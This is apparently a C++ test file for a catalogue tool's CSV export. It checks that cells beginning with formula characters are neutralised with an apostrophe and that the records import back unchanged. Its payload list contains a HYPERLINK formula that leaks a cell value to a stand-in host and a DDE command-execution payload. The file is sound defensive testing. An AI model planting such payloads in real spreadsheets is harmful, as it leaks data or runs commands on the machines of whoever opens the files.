// `export --format csv` with text a spreadsheet would run: every cell read
// back by Python's csv module starts with nothing a spreadsheet takes for a
// formula, and importing the file gives the records back exactly.
#include "CliTestSupport.h"

#include "core/io/csv/CsvExport.h"

#include <QFile>
#include <QProcess>

#include <nlohmann/json.hpp>

using namespace ssc;
using namespace ssc::test;
using nlohmann::json;

namespace {

// Text that runs in Excel, LibreOffice or Google Sheets when a cell begins
// with it, and text that must come back as it was.
const QStringList kHostile = {
    QStringLiteral("=HYPERLINK(\"http://example.org/?leak=\"&A1,\"click\")"),
    QStringLiteral("=cmd|' /C calc'!A0"),
    QStringLiteral("+1+2"),
    QStringLiteral("-1"),
    QStringLiteral("@SUM(A1:A9)"),
    QStringLiteral("\t=1+1"),
    QStringLiteral("\r=1+1"),
    QStringLiteral("'=already marked"),
    QStringLiteral("''-twice"),
    QStringLiteral("'plain apostrophe"),
    QStringLiteral("C&A São Tomé 中国 اليمن, \"quoted\""),
};

json pythonCsv(const QString &file)
{
    QProcess p;
    p.start(QStringLiteral("/usr/bin/python3"), {QStringLiteral("-c"), QStringLiteral(R"(
import csv, json, sys
with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:
    print(json.dumps(list(csv.reader(f, strict=True))))
)"),
                                                 file});
    REQUIRE(p.waitForFinished(60000));
    INFO(p.readAllStandardError().toStdString());
    REQUIRE(p.exitCode() == 0);
    return json::parse(p.readAllStandardOutput().toStdString());
}

} // namespace

TEST_CASE("A value a spreadsheet would run gets one apostrophe, which reading takes off",
          "[csv][hostile]")
{
    for (const QString &v : kHostile) {
        INFO(v.toStdString());
        const QString safe = CsvExport::safeCell(v);
        CHECK_FALSE(QStringLiteral("=+-@\t\r").contains(safe.front()));
        CHECK(CsvExport::unmarkedCell(safe) == v);
    }
    CHECK(CsvExport::safeCell(QStringLiteral("=1")) == QStringLiteral("'=1"));
    CHECK(CsvExport::safeCell(QStringLiteral("'=1")) == QStringLiteral("''=1"));
    CHECK(CsvExport::safeCell(QStringLiteral("'x")) == QStringLiteral("'x"));
    CHECK(CsvExport::unmarkedCell(QStringLiteral("'x")) == QStringLiteral("'x"));
    CHECK(CsvExport::safeCell({}).isEmpty());
}

TEST_CASE("export --format csv neutralises formulas and imports back unchanged",
          "[csv][hostile][cli]")
{
    QTemporaryDir dir;
    CatalogueContent content = loadFixture(QStringLiteral("small-catalogue.json"));
    REQUIRE(content.initiatives.size() >= 3);
    // Each hostile value in some title and summary, then in the other text
    // columns, so every text column of the export holds some.
    const std::size_t n = content.initiatives.size();
    for (std::size_t i = 0; i < std::size_t(kHostile.size()); ++i) {
        Initiative &in = content.initiatives[i % n];
        if (i < n) {
            in.title = kHostile[qsizetype(i)];
            in.summary = kHostile[qsizetype(i)];
        } else {
            in.description = kHostile[qsizetype(i)];
            in.beneficiaries = kHostile[qsizetype(i)];
            in.results = kHostile[qsizetype(i)];
        }
    }
    const QString source = dir.filePath(QStringLiteral("hostile.json"));
    REQUIRE(CatalogueJson::writeFile(content, source).ok());
    const QString db = dir.filePath(QStringLiteral("hostile.ssccat"));
    Run r = cli({QStringLiteral("import"), source, QStringLiteral("--db"), db});
    INFO(r.err.toStdString());
    REQUIRE(r.code == 0);

    const QString csv = dir.filePath(QStringLiteral("out.csv"));
    r = cli({QStringLiteral("export"), csv, QStringLiteral("--format"), QStringLiteral("csv"),
             QStringLiteral("--db"), db});
    REQUIRE(r.code == 0);

    const json rows = pythonCsv(csv);
    REQUIRE(rows.size() == content.initiatives.size() + 1);
    int marked = 0;
    for (const json &row : rows) {
        CHECK(row.size() == rows[0].size());
        for (const json &cell : row) {
            const std::string text = cell.get<std::string>();
            INFO(text);
            CHECK((text.empty() || std::string("=+-@\t\r").find(text[0]) == std::string::npos));
            marked += text.rfind("'=", 0) == 0 || text.rfind("'+", 0) == 0 ||
                      text.rfind("'-", 0) == 0 || text.rfind("'@", 0) == 0;
        }
    }
    CHECK(marked > 0);

    // The same records again: nothing to change, and each field as it was.
    r = cli(
        {QStringLiteral("import"), csv, QStringLiteral("--db"), db, QStringLiteral("--dry-run")});
    INFO(r.out.toStdString());
    REQUIRE(r.code == 0);
    CHECK(
        r.out.contains(QStringLiteral("Unchanged (skipped): %1").arg(content.initiatives.size())));

    // What the catalogue holds (it keeps no white space around a text).
    {
        auto first = CatalogueStore::open(db, CatalogueStore::OpenMode::ExistingOnly);
        REQUIRE(first.ok());
        content = okValue((*first)->content());
    }
    CatalogueContent empty = content;
    empty.initiatives.clear();
    const QString bare = dir.filePath(QStringLiteral("bare.json"));
    REQUIRE(CatalogueJson::writeFile(empty, bare).ok());
    const QString other = dir.filePath(QStringLiteral("other.ssccat"));
    REQUIRE(cli({QStringLiteral("import"), bare, QStringLiteral("--db"), other}).code == 0);
    r = cli({QStringLiteral("import"), csv, QStringLiteral("--db"), other});
    INFO(r.err.toStdString());
    REQUIRE(r.code == 0);
    auto store = CatalogueStore::open(other, CatalogueStore::OpenMode::ExistingOnly);
    REQUIRE(store.ok());
    for (const Initiative &expected : content.initiatives) {
        const Initiative back = okValue((*store)->initiative(expected.id));
        INFO(expected.id.toStdString());
        CHECK(back.title == expected.title);
        CHECK(back.summary == expected.summary);
        CHECK(back.description == expected.description);
        CHECK(back.beneficiaries == expected.beneficiaries);
        CHECK(back.results == expected.results);
    }
}
